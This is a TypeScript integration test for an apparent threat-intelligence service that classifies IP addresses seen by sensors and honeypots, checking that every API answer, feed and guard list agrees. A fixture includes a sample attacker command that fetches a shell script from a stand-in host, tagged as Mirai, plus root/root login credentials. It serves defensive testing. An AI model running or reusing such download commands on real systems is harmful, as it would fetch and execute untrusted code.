import { removeObservations } from "@noisefloor/clickhouse/rollups/remove-observations.ts";
import { ipv4ToNumber } from "@noisefloor/domain/address/ipv4.ts";
import { afterAll, beforeAll, expect, test } from "vitest";
import { networkList } from "../../support/builders/network-list.ts";
import { observation } from "../../support/builders/observation.ts";
import { eventually } from "../../support/eventually.ts";
import { startIndex } from "../../support/worlds/address-index.ts";
import { createWorld, makeTag, RETENTION_DAYS, type World } from "../../support/worlds/world.ts";

let now = Date.now();
const OPERATOR = "Operator of census";
/** Of a known benign actor: one scans, one logs in without a tag, one downloads malware. */
const [SCANNER, VISITOR, ATTACKER] = ["45.2.0.1", "45.2.0.2", "45.2.0.3"];
/** In a guarded network; with a harmless tag alone. */
const [GUARDED, CRAWLER] = ["45.3.0.1", "45.4.0.1"];
const MALWARE = { commands: ["wget http://198.51.100.9/x.sh"], payload_sha256: ["ab".repeat(32)], tags: ["mirai"] };
const LOGIN = { credentials: [{ username: "root", password: "root" }], login_attempts: 1 };

let world: World;
let key: string;
beforeAll(async () => {
  world = await createWorld(() => now);
  await world.addTags([makeTag("mirai", "malicious"), makeTag("crawler", "benign")]);
  await world.replaceNetworks("actor", [networkList("census", ["45.2.0.0/24"])]);
  const at = now - 3_600_000;
  await world.store([
    ...[SCANNER, VISITOR, ATTACKER].map((ip) => observation(ip, at - 1_000, { transport: "tcp", tags: ["mirai"] })),
    // A login that a packet claims, and a request, can be forged or mean nothing.
    observation(SCANNER, at, { transport: "udp", ...LOGIN }),
    observation(SCANNER, at, { transport: "tcp", http: { method: "GET", path: "/" } }),
    observation(CRAWLER, at, { transport: "tcp", tags: ["crawler"] }),
    observation(GUARDED, at, { transport: "tcp", ...LOGIN, tags: ["mirai"] }),
    observation(ATTACKER, at, { transport: "tcp", sensor_id: "honeypot", ...LOGIN, ...MALWARE }),
    observation(VISITOR, at, { transport: "tcp", sensor_id: "honeypot", ...LOGIN }),
    observation(CRAWLER, at, { transport: "tcp", sensor_id: "honeypot", ...LOGIN }),
  ]);
  key = await world.addCaller("unlimited");
});
afterAll(() => world.close());

async function ask(path: string, method: "GET" | "POST" | "PUT" = "GET", payload?: object) {
  const response = await world.app.inject({ method, url: path, headers: { key }, ...(payload && { payload }) });
  expect(response.statusCode, path).toBeLessThan(300);
  return response;
}
const get = async (path: string) => (await ask(path)).json();

/** What every answer says of an address, each once. */
async function classificationsOf(ip: string): Promise<ReadonlySet<string>> {
  const { data } = (await ask("/v3/ip", "POST", { ips: [ip] })).json();
  const scanner = (await get(`/v3/ip/${ip}`)).internet_scanner_intelligence;
  const rows = (await get(`/v3/gnql?query=ip:${ip}`)).data;
  const csv = (await ask("/v3/feeds/all.csv")).body.split("\n").find((line) => line.startsWith(`${ip},`));
  const timeline: { label: string }[] = (await get(`/v3/noise/ips/${ip}/timeline?days=1`)).results;
  expect(timeline.every(({ label }) => label === "benign")).toBe(scanner.classification === "benign");
  const network: { ip: string; classification: string }[] = (await get(`/v3/noise/networks/${ip}/32`)).ips;
  const { stats } = await get(`/v3/gnql/stats?query=ip:${ip}`);
  return new Set([
    scanner.classification,
    (await get(`/v3/community/${ip}`)).classification,
    (await get(`/v3/ip/${ip}?quick=true`)).internet_scanner_intelligence.classification,
    data[0].internet_scanner_intelligence.classification,
    rows[0].internet_scanner_intelligence.classification,
    (await get(`/v2/noise/context/${ip}`)).classification,
    network.find((one) => one.ip === ip)?.classification,
    ...stats.classifications.map(({ classification }: { classification: string }) => classification),
    ...(csv === undefined ? [] : [csv.split(",")[3]]),
  ]);
}

const found = async (query: string) => (await get(`/v3/gnql/ips?query=${encodeURIComponent(query)}`)).ips.toSorted();
const bySeverity = async () => (await get("/v3/stats/classifications?days=1")).classifications;
const counts = (malicious: number, suspicious: number, unknown: number, benign: number) =>
  Object.entries({ malicious, suspicious, unknown, benign }).map(([classification, active_ips]) => ({
    classification,
    active_ips,
  }));

test("who attacks is not benign in any answer, also as a known benign actor, whom every answer still names", async () => {
  await ask("/v3/feeds/all", "PUT", { query: "*", guard: false });
  expect(await classificationsOf(SCANNER)).toEqual(new Set(["benign"]));
  expect(await classificationsOf(VISITOR)).toEqual(new Set(["malicious"]));
  expect(await classificationsOf(ATTACKER)).toEqual(new Set(["malicious"]));
  expect(await classificationsOf(CRAWLER)).toEqual(new Set(["unknown"]));
  expect((await get(`/v3/ip/${ATTACKER}`)).internet_scanner_intelligence.actor).toBe(OPERATOR);
  expect((await get(`/v3/community/${ATTACKER}`)).name).toBe(OPERATOR);
  expect(await bySeverity()).toEqual(counts(3, 0, 1, 1));
  const { aggregations } = await get(`/v3/tags/${(await get("/v3/tags?slug=mirai")).tags[0].id}/activity?days=1`);
  expect(aggregations.classification).toEqual({ malicious: 3, benign: 1 });
  const stix = (await ask("/v3/feeds/all.stix")).json();
  const indicator = stix.objects.find(({ name }: { name?: string }) => name === ATTACKER);
  expect(indicator.indicator_types).toEqual(["malicious-activity"]);
});

test("benign means the same in the search, for the actor, the last time and the guard", async () => {
  expect(await found("classification:benign")).toEqual([SCANNER]);
  expect(await found("last_seen_benign:1d")).toEqual([SCANNER]);
  expect(await found("actor:census")).toEqual([SCANNER, VISITOR, ATTACKER]);
  expect(await found("actor:census NOT classification:benign")).toEqual([VISITOR, ATTACKER]);
  await ask("/v3/guard", "POST", { network: "45.3.0.0/24", note: "a partner" });
  await ask("/v3/feeds/guarded", "PUT", { query: "*" });
  const listed = (await ask("/v3/feeds/guarded.txt")).body.trim().split("\n");
  expect(listed).toEqual([VISITOR, ATTACKER, CRAWLER]);
  const reason = { name: OPERATOR, network: "", note: "" };
  const partner = { reason: "network", name: "", network: "45.3.0.0/24", note: "a partner" };
  expect(await get("/v3/feeds/guarded/guarded")).toEqual({
    count: 2,
    addresses: [
      { ip: SCANNER, reason: "actor", ...reason, attacked: false },
      { ip: GUARDED, ...partner, attacked: true },
    ],
  });
  expect(await get(`/v3/guard?ip=${SCANNER}`)).toMatchObject({ guarded: true, reason: "actor", attacked: false });
  expect(await get(`/v3/guard?ip=${ATTACKER}`)).toMatchObject({ guarded: false, attacked: true });
});

test("the owner of the guard is told of each address of it that attacked", async () => {
  const { count, addresses } = await get("/v3/guard/attackers");
  const facts = ({ ip, reason, guarded, classification }: Record<string, unknown>) => [
    ip,
    reason,
    guarded,
    classification,
  ];
  expect([count, addresses.map(facts)]).toEqual([
    3,
    [
      [VISITOR, "actor", false, "malicious"],
      [ATTACKER, "actor", false, "malicious"],
      [GUARDED, "network", true, "malicious"],
    ],
  ]);
});

test("an index in memory says the same, and after the attacks are removed all is as before", async () => {
  const index = await startIndex(world, {
    limit: 1_000,
    retentionDays: () => RETENTION_DAYS,
    now: () => now,
    intervalMs: 100,
  });
  const hasAttacked = (ip: string) => index.find(ipv4ToNumber(ip))?.hasAttacked;
  const attacked = async (...expected: boolean[]) =>
    eventually(async () => expect([SCANNER, VISITOR, ATTACKER].map(hasAttacked)).toEqual(expected));
  await attacked(false, true, true);
  await removeObservations(world.client, { sensors: ["honeypot"] });
  await attacked(false, false, false);
  await index.stop();
  now += 120_000;
  // Forms keep what they say of addresses for a minute.
  await ask("/v3/feeds/all", "PUT", { query: "*", guard: false });
  for (const ip of [SCANNER, VISITOR, ATTACKER]) expect(await classificationsOf(ip), ip).toEqual(new Set(["benign"]));
  expect(await classificationsOf(CRAWLER)).toEqual(new Set(["benign"]));
  expect(await found("classification:benign")).toEqual([SCANNER, VISITOR, ATTACKER, CRAWLER]);
  expect(await bySeverity()).toEqual(counts(1, 0, 0, 4));
  expect((await ask("/v3/feeds/guarded.txt")).body).toBe(`${CRAWLER}\n`);
  expect((await get("/v3/guard/attackers")).count).toBe(1);
});
